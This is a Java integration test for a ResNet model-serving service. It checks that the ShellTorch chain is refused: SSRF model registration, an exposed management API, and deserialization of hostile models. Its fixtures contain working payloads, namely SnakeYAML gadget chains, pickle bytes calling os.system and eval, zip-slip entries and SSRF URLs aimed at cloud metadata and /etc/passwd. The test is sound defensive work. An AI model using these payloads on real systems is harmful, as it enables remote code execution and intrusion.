package org.resnetserving.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.grpc.CallOptions;
import io.grpc.ManagedChannel;
import io.grpc.MethodDescriptor;
import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import io.grpc.netty.NettyChannelBuilder;
import io.grpc.stub.ClientCalls;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.GZIPInputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.resnetserving.RunningServer;
import org.resnetserving.RunningServer.Answer;
import org.resnetserving.ServerTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.server.LocalManagementPort;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.grpc.server.lifecycle.GrpcServerLifecycle;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * The steps of ShellTorch (CVE-2023-43654, CVE-2022-1471 and what goes with them), each against
 * this service: reach the management API, have it fetch a model from anywhere, have what is in the
 * model run. A trap listens for connections, and a file would be made by whatever ran.
 */
final class ShellTorchIT {
  private static final Trap TRAP = new Trap();

  @TempDir private static Path folder;

  /** What would be made by a payload that ran. */
  private static Path made() {
    return folder.resolve("made-by-a-payload");
  }

  @AfterEach
  void nothingRanAndNothingWasFetched() {
    assertThat(TRAP.connections()).as("connections that the service made").isZero();
    assertThat(made()).doesNotExist();
  }

  /** Listens on the loopback interface, where SSRF would like to go. */
  private static final class Trap {
    private final ServerSocket socket;
    private final AtomicInteger connections = new AtomicInteger();

    Trap() {
      try {
        socket = new ServerSocket(0, 50, InetAddress.getByName("127.0.0.1"));
      } catch (IOException e) {
        throw new AssertionError(e);
      }
      Thread thread = new Thread(this::listen, "trap");
      thread.setDaemon(true);
      thread.start();
    }

    private void listen() {
      while (true) {
        try (Socket caught = socket.accept()) {
          connections.incrementAndGet();
        } catch (IOException e) {
          return;
        }
      }
    }

    int port() {
      return socket.getLocalPort();
    }

    int connections() {
      return connections.get();
    }

    String url() {
      return "http://127.0.0.1:%d/evil.mar".formatted(port());
    }
  }

  /** Registration by a URL, as the servers have it that people come from. */
  static Stream<String> registrations() {
    return Stream.of(
        "/models?url=" + TRAP.url() + "&initial_workers=1&synchronous=true",
        "/models?model_name=evil&url=" + TRAP.url(),
        "/models/evil?url=" + TRAP.url(),
        "/workflows?url=" + TRAP.url(),
        "/v1/models?url=" + TRAP.url(),
        "/v1/models/evil?url=" + TRAP.url(),
        "/v2/models/evil/load?model_uri=" + TRAP.url(),
        "/v2/load?storageUri=" + TRAP.url(),
        "/v2/repository/index?url=" + TRAP.url() + "&model_name=evil");
  }

  private static byte[] body() {
    return """
        {"url": "%1$s", "model_name": "evil", "model_uri": "%1$s", "storageUri": "%1$s",
         "parameters": {"config": "{\\"backend\\": \\"python\\"}", "file:1/model.py": "aW1wb3J0IG9z"}}"""
        .formatted(TRAP.url())
        .getBytes(UTF_8);
  }

  private static List<String> served(RunningServer server) {
    return server
        .get("/v1/models")
        .json()
        .get("models")
        .valueStream()
        .map(model -> model.get("name").stringValue())
        .toList();
  }

  @Nested
  @ServerTest
  final class AsItStarts {
    private final RunningServer server;
    private final RunningServer management;

    AsItStarts(@LocalServerPort int port, @LocalManagementPort int managementPort) {
      server = new RunningServer(port);
      management = new RunningServer(managementPort);
    }

    /** Step 1: what is on the management port can be read and does nothing. */
    @Test
    void management_asItStarts_hasNothingThatChangesAnything() {
      assertThat(management.get("/actuator").json().get("_links").propertyNames())
          .containsExactlyInAnyOrder(
              "self", "health", "health-path", "info", "prometheus", "sbom", "sbom-id");
      for (String path :
          List.of("models", "models/evil", "shutdown", "env", "loggers/ROOT", "heapdump", "jolokia")) {
        assertThat(management.post("/actuator/" + path, body(), "Content-Type", "application/json"))
            .extracting(Answer::status)
            .as(path)
            .isEqualTo(404);
      }
      assertThat(management.post("/v2/repository/models/evil/load", body()).status())
          .isEqualTo(403);
    }

    /** And none of it is where the clients are. */
    @ParameterizedTest
    @ValueSource(strings = {"/actuator", "/actuator/models", "/v2/repository/index"})
    void management_onTheClientsPort_isNotThere(String path) {
      assertThat(server.get(path).status()).isEqualTo(404);
      assertThat(server.post(path, body(), "Content-Type", "application/json").status())
          .isEqualTo(404);
    }

    /** Step 2, where nothing was switched on. */
    @ParameterizedTest
    @MethodSource("org.resnetserving.hostile.ShellTorchIT#registrations")
    void registration_byAUrl_isRefusedOnBothPorts(String path) {
      List<String> before = served(server);
      for (RunningServer either : List.of(server, management)) {
        assertThat(either.post(path, body(), "Content-Type", "application/json").status())
            .as(path)
            .isBetween(400, 499);
        assertThat(either.put(path, body()).status()).as(path).isBetween(400, 499);
      }
      assertThat(served(server)).isEqualTo(before);
    }

    /** Pictures by their URL are off. */
    @Test
    void picture_byItsUrl_isNotFetched() {
      Answer answer =
          server.post(
              "/v1/classify",
              "{\"images\": [{\"url\": \"%s\"}]}".formatted(TRAP.url()).getBytes(UTF_8),
              "Content-Type",
              "application/json");
      assertThat(answer.status()).isBetween(400, 499);
    }
  }

  @Nested
  @SpringBootTest(
      webEnvironment = WebEnvironment.RANDOM_PORT,
      properties = {
        "management.server.port=0",
        "resnet.models=good",
        "resnet.serving.precision=fp32",
        "server.address=127.0.0.1",
        "spring.grpc.server.port=0",
        "management.endpoints.web.exposure.include=*",
        "management.endpoint.models.access=unrestricted",
        "resnet.url.allow-http=true"
      })
  @DirtiesContext
  final class WithEverythingSwitchedOn {
    private final RunningServer server;
    private final RunningServer management;
    private final int grpcPort;

    WithEverythingSwitchedOn(
        @LocalServerPort int port,
        @LocalManagementPort int managementPort,
        @Autowired GrpcServerLifecycle grpc) {
      server = new RunningServer(port);
      management = new RunningServer(managementPort);
      grpcPort = grpc.getPort();
    }

    /** Whoever put the trap's own address on the list of hosts: private networks are closed still. */
    @DynamicPropertySource
    static void settings(DynamicPropertyRegistry registry) throws IOException {
      registry.add(
          "resnet.url.hosts",
          () ->
              "localhost:%1$d,127.0.0.1:%1$d,[::1]:%1$d,[::ffff:127.0.0.1]:%1$d,169.254.169.254"
                  .formatted(TRAP.port()));
      registry.add("resnet.models-directory", () -> folder);
      Payloads.write(folder, made(), TRAP.url());
    }

    /** Step 2: a model is described in the models folder, or it is none. */
    @ParameterizedTest
    @MethodSource("org.resnetserving.hostile.ShellTorchIT#registrations")
    void registration_byAUrl_isRefusedOnBothPorts(String path) {
      server.awaitReady();
      List<String> before = served(server);
      for (RunningServer either : List.of(server, management)) {
        // Triton's index is a question that is answered by POST, whatever else is said.
        if (either == server || !path.startsWith("/v2/repository/index")) {
          assertThat(either.post(path, body(), "Content-Type", "application/json").status())
              .as(path)
              .isBetween(400, 499);
        }
      }
      assertThat(served(server)).isEqualTo(before);
    }

    @Test
    void load_thatBringsAConfigurationOrFiles_isRefused() {
      Answer answer = management.post("/v2/repository/models/good/load", body());
      assertThat(answer.status()).isEqualTo(400);
      assertThat(answer.json().get("error").stringValue()).contains("config", "file:1/model.py");
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "evil",
          "http%3A%2F%2F127.0.0.1%2Fevil.mar",
          "..%2F..%2Fetc%2Fpasswd",
          "file%3A%2F%2F%2Fetc%2Fpasswd"
        })
    void load_ofWhatIsNotDescribed_isRefused(String name) {
      for (String path : List.of("/v2/repository/models/%s/load", "/actuator/models/%s")) {
        Answer answer =
            management.post(
                path.formatted(name),
                "{}".getBytes(US_ASCII),
                "Content-Type",
                "application/json");
        assertThat(answer.status()).as(path).isBetween(400, 499);
      }
    }

    @ParameterizedTest
    @ValueSource(
        strings = {
          "inference.GRPCInferenceService/RepositoryModelLoad",
          "inference.GRPCInferenceService/RepositoryIndex",
          "inference.GRPCInferenceService/ModelLoad",
          "mmesh.ModelRuntime/loadModel",
          "org.pytorch.serve.grpc.management.ManagementAPIsService/RegisterModel",
          "tensorflow.serving.ModelService/HandleReloadConfigRequest",
          "grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
        })
    void registration_overGrpc_isNotThere(String method) throws InterruptedException {
      ManagedChannel channel =
          NettyChannelBuilder.forAddress("127.0.0.1", grpcPort).usePlaintext().build();
      try {
        assertThat(Status.fromThrowable(failure(channel, method)).getCode())
            .isEqualTo(Status.Code.UNIMPLEMENTED);
      } finally {
        channel.shutdownNow().awaitTermination(10, TimeUnit.SECONDS);
      }
    }

    /**
     * Step 3: what is in a model runs when it is read. Here the models folder itself is hostile,
     * which is more than a client can bring about.
     *
     * @param said what the refusal names
     */
    @ParameterizedTest
    @CsvSource({
      "yaml-tag, '!!javax.script.ScriptEngineManager'",
      "yaml-bean, '!!com.sun.rowset.JdbcRowSetImpl'",
      "yaml-label, '!!java.net.URL'",
      "pickle-system, posix.system",
      "pickle-eval, builtins.eval",
      "pickle-raw, weights",
      "keras-lambda, Lambda",
      "torchscript, TorchScript"
    })
    void model_thatWouldRunSomething_isRefusedAndNamed(String name, String said) {
      Answer answer = management.post("/v2/repository/models/%s/load".formatted(name), new byte[0]);
      assertThat(answer.status()).as(answer.text()).isEqualTo(400);
      assertThat(answer.json().get("error").stringValue()).contains(said);
      assertThat(served(server)).doesNotContain(name + "-1");
    }

    /** A zip's names are looked up and never made into files. */
    @Test
    void archive_withNamesThatLeaveTheFolder_writesNothing() throws IOException {
      management.post("/v2/repository/models/zip-slip/load", new byte[0]);
      try (Stream<Path> files = Files.walk(folder.getParent())) {
        assertThat(files.map(file -> file.getFileName().toString()))
            .doesNotContain("made-by-a-zip", "made-by-an-absolute-name");
      }
      assertThat(Path.of("/tmp/made-by-an-absolute-name")).doesNotExist();
    }

    /** Beside the chain: SSRF. How names are resolved, and changes of it: {@code FetcherTest}. */
    @ParameterizedTest
    @ValueSource(
        strings = {
          "http://127.0.0.1:%d/",
          "http://localhost:%d/",
          "http://[::1]:%d/",
          "http://[::ffff:127.0.0.1]:%d/",
          "http://[::ffff:7f00:1]:%d/",
          "http://0x7f000001:%d/",
          "http://2130706433:%d/",
          "http://127.1:%d/",
          "http://0.0.0.0:%d/",
          "http://localhost.:%d/",
          "http://good@127.0.0.1:%d/",
          "http://127.0.0.1:%d#@good/",
          "http://169.254.169.254/latest/meta-data/",
          "http://[fd00:ec2::254]/latest/meta-data/",
          "http://metadata.google.internal/",
          "file:///etc/passwd",
          "gopher://127.0.0.1:%d/_x",
          "jar:http://127.0.0.1:%d/a.jar!/b"
        })
    void picture_byAUrlOfAnotherNetwork_isNotFetched(String url) {
      server.awaitReady();
      Answer answer =
          server.post(
              "/v1/classify",
              "{\"images\": [{\"url\": \"%s\"}]}"
                  .formatted(url.formatted(TRAP.port()))
                  .getBytes(UTF_8),
              "Content-Type",
              "application/json");
      assertThat(answer.status()).as(answer.text()).isBetween(400, 499);
      assertThat(answer.json().get("type").stringValue())
          .as(answer.text())
          .endsWith(":url-not-allowed");
      assertThat(answer.text()).doesNotContain("root:");
    }
  }

  private static StatusRuntimeException failure(ManagedChannel channel, String method) {
    MethodDescriptor.Marshaller<byte[]> plain =
        new MethodDescriptor.Marshaller<>() {
          @Override
          public InputStream stream(byte[] value) {
            return new ByteArrayInputStream(value);
          }

          @Override
          public byte[] parse(InputStream stream) {
            return new byte[0];
          }
        };
    MethodDescriptor<byte[], byte[]> call =
        MethodDescriptor.newBuilder(plain, plain)
            .setType(MethodDescriptor.MethodType.UNARY)
            .setFullMethodName(method)
            .build();
    try {
      ClientCalls.blockingUnaryCall(
          channel, call, CallOptions.DEFAULT.withDeadlineAfter(20, TimeUnit.SECONDS), new byte[0]);
    } catch (StatusRuntimeException e) {
      return e;
    }
    throw new AssertionError(method + " was answered");
  }

  /** The models that would run something if they were read as others read them. */
  private static final class Payloads {
    private static final Path WEIGHTS =
        Path.of("models/resnet20-cifar10/resnet20-cifar10.safetensors").toAbsolutePath();

    static void write(Path folder, Path made, String url) throws IOException {
      String touch = "touch " + made;
      Files.copy(Path.of("models/resnet20-cifar10/labels.txt"), folder.resolve("labels.txt"));
      describe(folder, "good", WEIGHTS.toString(), "", "good");
      describe(
          folder,
          "yaml-tag",
          WEIGHTS.toString(),
          "",
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"%s\"]]]]"
              .formatted(url));
      describe(
          folder,
          "yaml-bean",
          WEIGHTS.toString(),
          "",
          "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://127.0.0.1:1/x\", autoCommit: true}");
      describe(folder, "yaml-label", WEIGHTS.toString(), "", "!!java.net.URL [\"%s\"]".formatted(url));
      pickle(folder, "pickle-system", "posix\nsystem", touch);
      pickle(folder, "pickle-eval", "builtins\neval", "__import__('os').system('" + touch + "')");
      Files.write(folder.resolve("pickle-raw.pth"), call("posix\nsystem", touch));
      describe(folder, "pickle-raw", "pickle-raw.pth", "", "raw");
      lambda(folder.resolve("lambda.keras"));
      describe(folder, "keras-lambda", "lambda.keras", "", "lambda");
      try (InputStream program =
          new GZIPInputStream(
              Files.newInputStream(Path.of("src/test/resources/traced/tiny.pt.gz")))) {
        Files.write(folder.resolve("program.pt"), program.readAllBytes());
      }
      describe(folder, "torchscript", "program.pt", "architecture: resnet20-cifar\n", "program");
      Map<String, byte[]> names = new LinkedHashMap<>();
      names.put("../made-by-a-zip", touch.getBytes(UTF_8));
      names.put("/tmp/made-by-an-absolute-name", touch.getBytes(UTF_8));
      names.put(
          "MAR-INF/MANIFEST.json",
          "{\"model\": {\"modelName\": \"net\", \"serializedFile\": \"../made-by-a-zip\", \"handler\": \"evil.py\"}}"
              .getBytes(UTF_8));
      names.put("evil.py", ("import os; os.system('" + touch + "')").getBytes(UTF_8));
      zip(folder.resolve("slip.mar"), names);
      describe(folder, "zip-slip", "slip.mar", "", "slip");
    }

    private static void describe(
        Path folder, String name, String weights, String more, String title) throws IOException {
      Files.writeString(
          folder.resolve(name + ".yml"),
          """
          title: %s
          %sweights: {file: '%s'}
          labels: labels.txt
          preset: {resize: 32, crop: 32, interpolation: bilinear, mean: [0.4914, 0.4822, 0.4465], std: [0.247, 0.2435, 0.2616]}
          license: Apache-2.0
          """
              .formatted(title, more, weights));
    }

    /** A pickle that calls a function with a text when it is read. */
    private static byte[] call(String function, String argument) {
      byte[] text = argument.getBytes(US_ASCII);
      return Damage.join(
          new byte[] {(byte) 0x80, 2, 'c'},
          (function + "\n").getBytes(US_ASCII),
          new byte[] {'X', (byte) text.length, (byte) (text.length >> 8), 0, 0},
          text,
          new byte[] {(byte) 0x85, 'R', '.'});
    }

    private static void pickle(Path folder, String name, String function, String argument)
        throws IOException {
      Map<String, byte[]> entries = new LinkedHashMap<>();
      entries.put("archive/data.pkl", call(function, argument));
      entries.put("archive/version", "3\n".getBytes(US_ASCII));
      zip(folder.resolve(name + ".pth"), entries);
      describe(folder, name, name + ".pth", "", name);
    }

    /** A network with a layer that is Python. */
    private static void lambda(Path file) throws IOException {
      Map<String, byte[]> entries = new LinkedHashMap<>();
      try (ZipInputStream zip =
          new ZipInputStream(
              Files.newInputStream(Path.of("src/test/resources/keras/keras3.keras")))) {
        for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
          entries.put(entry.getName(), zip.readAllBytes());
        }
      }
      String config = new String(entries.get("config.json"), UTF_8);
      String lambda =
          config.replaceFirst("\"class_name\": \"Activation\"", "\"class_name\": \"Lambda\"");
      assertThat(lambda).isNotEqualTo(config);
      entries.put("config.json", lambda.getBytes(UTF_8));
      zip(file, entries);
    }

    private static void zip(Path file, Map<String, byte[]> entries) throws IOException {
      try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
        for (Map.Entry<String, byte[]> content : entries.entrySet()) {
          CRC32 crc = new CRC32();
          crc.update(content.getValue());
          ZipEntry entry = new ZipEntry(content.getKey());
          entry.setMethod(ZipEntry.STORED);
          entry.setSize(content.getValue().length);
          entry.setCrc(crc.getValue());
          zip.putNextEntry(entry);
          zip.write(content.getValue());
          zip.closeEntry();
        }
      }
    }
  }
}
